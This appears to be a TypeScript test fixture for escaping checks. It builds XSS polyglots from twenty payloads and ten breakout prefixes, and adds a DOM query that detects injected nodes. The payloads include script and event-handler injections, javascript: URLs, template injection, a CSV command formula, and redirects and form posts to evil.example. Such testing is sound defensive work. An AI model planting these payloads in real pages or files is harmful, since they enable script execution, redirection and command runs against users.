/** Texts that would be more than texts wherever somebody forgot to escape them: payloads times the ways out of where they stand. */

/** Each sets a mark on the window, opens a dialog, or leaves an element of its own. */
const payloads = [
  '<script>window.hit=1;alert(1)</script>',
  '<img src=x onerror="window.hit=1">',
  '<svg onload="window.hit=1"><circle r=9></svg>',
  '<iframe srcdoc="<script>parent.hit=1</script>"></iframe>',
  '<a href="javascript:window.hit=1">go</a>',
  '<style>body{display:none}</style>',
  '<object data="data:text/html,x"></object>',
  '<details open ontoggle="window.hit=1">',
  '<math><mtext><img src=x onerror="window.hit=1"></mtext></math>',
  '<base href="http://evil.example/">',
  '<form action="http://evil.example/"><input name=a autofocus onfocus="window.hit=1"></form>',
  '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
  'javascript:window.hit=1//',
  'data:text/html,<script>opener.hit=1</script>',
  '{{constructor.constructor("window.hit=1")()}}',
  `$${'{window.hit=1}'}`,
  '=cmd|"/C calc"!A0',
  '&lt;img src=x onerror=window.hit=1&gt;',
  '\u202e<b>gnp.exe</b>',
  '<template><img src=x onerror="window.hit=1"></template>',
];
const waysOut = ['', '">', "'>", '`>', '</title>', '</textarea>', '</script>', '-->', '*/', ' x="'];

export const polyglots: readonly string[] = waysOut.flatMap((out) => payloads.map((payload) => `${out}${payload}`));

/** What of them an open page holds as more than text; run in the page. */
export const FOREIGN_NODES = `[...document.querySelectorAll(
  'script:not([src]), iframe, object, embed, base, math, template, meta[http-equiv], form[action^="http"], [srcdoc], [href^="javascript:" i], a[href^="data:" i], img[src="x"]'
)].concat([...document.querySelectorAll('*')].filter((node) => [...node.attributes].some(({ name }) => /^on/i.test(name))))
  .map((node) => node.outerHTML.slice(0, 200))`;
